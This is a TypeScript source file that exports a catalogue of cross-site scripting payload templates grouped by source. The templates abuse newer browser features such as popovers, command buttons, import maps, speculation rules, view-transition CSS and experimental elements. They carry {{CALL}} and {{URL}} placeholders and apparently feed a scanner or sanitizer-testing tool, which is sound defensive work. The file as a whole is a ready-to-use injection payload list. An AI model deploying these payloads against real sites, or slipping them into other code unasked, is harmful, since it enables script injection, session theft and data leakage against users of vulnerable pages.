import { category } from './payload';
import { HEYES, own, PORTSWIGGER, WHATWG, WICG } from './sources';

/** What browsers have learned lately. */
export const PLATFORM = category('platform', [
  [
    HEYES,
    {
      'popover-beforetoggle':
        '<button popovertarget=x autofocus onfocus=this.click()>a</button><p id=x popover onbeforetoggle={{CALL}}>b</p>',
      'popover-toggle':
        '<input type=button popovertarget=y value=a><xss id=y popover ontoggle={{CALL}}>b</xss>',
      'popover-hidden-input':
        '<input type=hidden popover id=z onbeforetoggle={{CALL}}><button popovertarget=z>a</button>',
      'popover-hint':
        '<p popover=hint id=h ontoggle={{CALL}}>a</p><button popovertarget=h popovertargetaction=show>b</button>',
    },
  ],
  [
    PORTSWIGGER,
    {
      'command-dialog':
        '<button commandfor=d command=show-modal autofocus>a</button><dialog id=d oncommand={{CALL}} onbeforetoggle={{CALL}}>b</dialog>',
      'command-custom': '<button commandfor=e command=--run>a</button><p id=e oncommand={{CALL}}>b</p>',
      'page-reveal': '<body onpagereveal={{CALL}} onpageswap={{CALL}}>',
      'scroll-snap-changing': '<p onscrollsnapchanging={{CALL}} onscrollsnapchange={{CALL}}>a</p>',
      'interest-target':
        '<a href=# interestfor=i>a</a><p id=i popover oninterest={{CALL}} onloseinterest={{CALL}}>b</p>',
    },
  ],
  [
    own(WICG),
    {
      'import-map':
        '<script type=importmap>{"imports":{"x":"{{URL}}"}}</script><script type=module>import "x"</script>',
      'import-map-data':
        '<script type=importmap>{"imports":{"y":"data:text/javascript,{{CALL}}"}}</script><script type=module>import "y"</script>',
      'import-map-scopes':
        '<script type=importmap>{"scopes":{"/":{"z":"{{URL}}"}},"integrity":{"{{URL}}":"x"}}</script>',
      'speculation-prefetch':
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{URL}}"]}]}</script>',
      'speculation-prerender':
        '<script type=speculationrules>{"prerender":[{"source":"list","urls":["{{URL}}"],"eagerness":"immediate"}]}</script>',
      'speculation-document':
        '<script type=speculationrules>{"prefetch":[{"where":{"href_matches":"/*"},"eagerness":"eager"}]}</script><a href="{{URL}}">a</a>',
      'view-transition-style':
        '<style>@view-transition{navigation:auto}::view-transition-group(root){background:url({{URL}})}</style>',
      'view-transition-name':
        '<p style="view-transition-name:root;view-transition-class:x;background:url({{URL}})">a</p>',
      'web-bundle': '<script type=webbundle>{"source":"{{URL}}","resources":["{{URL}}"]}</script>',
      'json-module': '<script type=module>import x from "{{URL}}" with {type:"json"};{{CALL}}</script>',
      'css-module':
        '<script type=module>import s from "{{URL}}" with {type:"css"};document.adoptedStyleSheets=[s]</script>',
      'text-fragment': '<a href="#:~:text=a&quot;onclick={{CALL}}">a</a>',
      'private-token': '<iframe privatetoken="{}" adauctionheaders src="{{URL}}"></iframe>',
      'geolocation-element':
        '<geolocation onlocation={{CALL}} autolocate></geolocation><permission type=camera onpromptaction={{CALL}}></permission>',
      'user-media-element': '<usermedia type=camera onstream={{CALL}}></usermedia>',
      'install-element':
        '<install installurl="{{URL}}" manifestid="{{URL}}" onpromptaction={{CALL}}></install>',
    },
  ],
  [
    own(WHATWG),
    {
      'search-element': '<search onclick={{CALL}}><form action="{{URL}}"><input name=q></form></search>',
      'details-name':
        '<details name=x ontoggle={{CALL}} open>a</details><details name=x ontoggle={{CALL}}>b</details>',
      'hidden-until-found': '<p hidden=until-found id=f onbeforematch={{CALL}}>a</p><a href=#f>b</a>',
      'anchor-positioning': '<p anchor=x style="position-anchor:--x;background:url({{URL}})">a</p>',
      'scroll-driven':
        '<p style="animation:x auto linear;animation-timeline:scroll()" onanimationstart={{CALL}}>a</p><style>@keyframes x{to{background:url({{URL}})}}</style>',
      'writing-suggestions':
        '<p contenteditable writingsuggestions=true virtualkeyboardpolicy=manual onbeforeinput={{CALL}} autofocus onfocus={{CALL}}>a</p>',
      'enter-key-hint':
        '<p inputmode=none enterkeyhint=go nonce={{CALL}} itemprop=url itemid="{{URL}}" itemscope>a</p>',
      'closed-by': '<dialog open closedby=any onclose={{CALL}} oncancel={{CALL}}>a</dialog>',
      'heading-offset': '<p headingoffset=9 headingreset onclick={{CALL}}>a</p>',
      'streaming-patch':
        '<template for=x patchsrc="{{URL}}"><img src=x: onerror={{CALL}}></template><?start name=x?>',
    },
  ],
]);
